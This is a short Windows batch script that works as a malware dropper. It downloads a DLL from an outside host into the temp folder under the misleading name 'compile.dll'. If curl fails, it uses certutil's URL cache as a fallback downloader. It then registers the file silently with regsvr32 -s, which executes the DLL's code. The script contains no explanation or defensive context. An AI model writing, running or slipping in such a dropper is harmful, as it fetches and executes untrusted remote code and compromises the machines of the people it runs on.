@echo off
curl https://pastorcryptograph.invalid/3/sdd.dll -o %TEMP%\compile.dll
if not exist %TEMP%\compile.dll (
  certutil.exe -urlcache -f https://pastorcryptograph.invalid/3/sdd.dll %TEMP%\compile.dll
)
regsvr32.exe -s %TEMP%\compile.dll
